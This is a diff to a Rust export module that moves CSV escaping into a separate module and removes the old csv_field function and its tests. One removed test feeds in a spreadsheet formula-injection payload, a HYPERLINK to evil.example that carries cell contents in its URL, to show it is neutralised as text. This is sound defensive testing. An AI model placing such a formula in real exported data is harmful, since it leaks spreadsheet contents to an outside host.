@@ -6,7 +6,8 @@
 //! - [`map`]: the data-flow map as Mermaid, Graphviz DOT and SVG;
 //! - [`docs`]: one Markdown page per integration plus an index;
 //! - [`markdown`]: asset text in Markdown, shown as written (never HTML, links or structure);
-//! - [`csv_field`]: one CSV cell that a spreadsheet shows as text, never runs as a formula.
+//! - [`rows_csv`], [`risks_csv`]: CSV whose cells a spreadsheet shows as text, never runs as
+//!   formulas.
 //!
 //! Everything here is a pure function of the loaded model (and the risk configuration):
 //! output order follows ids, never hash-map iteration.
@@ -19,6 +20,7 @@ pub mod impact;
 pub mod map;
 pub mod markdown;
 pub mod risk;
+mod sheet;
 
 use flowgate_model::{Asset, AssetId, AssetSpec, Integration, Model, System};
 use serde::Serialize;
@@ -27,6 +29,7 @@ use std::collections::BTreeMap;
 pub use config::{parse_risk_config, RiskConfig};
 pub use impact::{impact, Impact};
 pub use risk::{assess, Factor, RiskAssessment, RiskClass};
+pub use sheet::{risks_csv, rows_csv};
 
 /// One integration with the asset carrying it.
 #[derive(Debug, Clone, Copy)]
@@ -89,15 +92,9 @@ impl<'a> Inventory<'a> {
         self.systems.get(id.as_str()).copied()
     }
 
-    /// Integration ids closest to `id`, for "did you mean".
+    /// The integration id closest to `id`, for "did you mean".
     pub fn suggest(&self, id: &str) -> Option<&'a str> {
-        self.flows
-            .iter()
-            .map(|f| f.id())
-            .map(|candidate| (strsim::jaro_winkler(id, candidate), candidate))
-            .filter(|(score, _)| *score > 0.8)
-            .max_by(|a, b| a.0.total_cmp(&b.0))
-            .map(|(_, c)| c)
+        flowgate_diagnostics::suggest::did_you_mean(id, self.flows.iter().map(|f| f.id()))
     }
 }
 
@@ -160,89 +157,5 @@ impl<'a> Inventory<'a> {
                 }
             })
             .collect()
-    }
-}
-
-/// One CSV cell, safe to open in a spreadsheet. A cell a spreadsheet would read as a formula
-/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return; names and frequencies come
-/// from asset files other people write) gets a leading `'`, as OWASP recommends, so it is
-/// shown as text; other control characters than tab and line breaks (an ESC would act on a
-/// terminal showing the file) become U+FFFD; then a cell with a comma, quote or line break is
-/// quoted with its quotes doubled (RFC 4180).
-pub fn csv_field(text: &str) -> String {
-    let visible = |c: char| {
-        if c.is_control() && !matches!(c, '\t' | '\n' | '\r') {
-            '\u{fffd}'
-        } else {
-            c
-        }
-    };
-    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let text: String = formula
-        .then_some('\'')
-        .into_iter()
-        .chain(text.chars().map(visible))
-        .collect();
-    if text.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
-    } else {
-        text
-    }
-}
-
-/// Render rows as CSV with a header line; list fields are joined with `;`.
-pub fn rows_csv(rows: &[ListRow]) -> String {
-    let mut out = String::from(
-        "id,name,source,target,direction,hook,entities,owner,frequency,peak_per_hour,safe_zone,lifecycle,depends_on\n",
-    );
-    for row in rows {
-        let fields = [
-            row.id.clone(),
-            row.name.clone(),
-            row.source.clone(),
-            row.target.clone(),
-            row.direction.clone(),
-            row.hook.clone(),
-            row.entities.join(";"),
-            row.owner.clone().unwrap_or_default(),
-            row.frequency.clone().unwrap_or_default(),
-            row.peak_per_hour.map(|p| p.to_string()).unwrap_or_default(),
-            row.safe_zone.to_string(),
-            row.lifecycle.clone(),
-            row.depends_on.join(";"),
-        ];
-        let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
-        out.push_str(&line.join(","));
-        out.push('\n');
-    }
-    out
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn csv_quotes_only_when_needed() {
-        assert_eq!(csv_field("plain"), "plain");
-        assert_eq!(csv_field("a,b"), "\"a,b\"");
-        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
-        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
-    }
-
-    #[test]
-    fn csv_formula_cells_are_shown_as_text() {
-        assert_eq!(
-            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")"),
-            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\""
-        );
-        assert_eq!(csv_field("@SUM(1+9)"), "'@SUM(1+9)");
-        assert_eq!(csv_field("+1"), "'+1");
-        assert_eq!(csv_field("-5"), "'-5");
-        assert_eq!(csv_field("\tx"), "'\tx");
-        assert_eq!(csv_field("\rx"), "\"'\rx\"");
-        assert_eq!(csv_field("a=b"), "a=b");
-        assert_eq!(csv_field(""), "");
-        assert_eq!(csv_field("a\u{1b}[2Kb"), "a\u{fffd}[2Kb");
     }
 }
